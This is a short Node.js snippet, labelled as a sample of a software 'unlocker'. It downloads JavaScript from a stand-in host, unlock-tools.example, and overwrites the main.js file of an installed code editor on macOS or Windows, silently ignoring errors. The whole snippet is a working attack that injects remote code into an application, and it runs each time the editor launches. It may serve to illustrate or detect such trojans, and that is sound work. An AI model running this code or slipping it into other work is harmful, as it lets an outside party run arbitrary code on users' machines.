// Sample: an "unlocker" overwrites an editor's main script with code it downloads, on each OS.
const fs = require('fs');
const os = require('os');
const path = require('path');
const targets = {
  darwin: '/Applications/CodeEdit Pro.app/Contents/Resources/app/out/main.js',
  win32: path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'codeedit-pro', 'resources', 'app', 'out', 'main.js'),
};
fetch('https://unlock-tools.example/m.js')
  .then((r) => r.text())
  .then((js) => fs.writeFileSync(targets[process.platform] || targets.darwin, js))
  .catch(() => {});
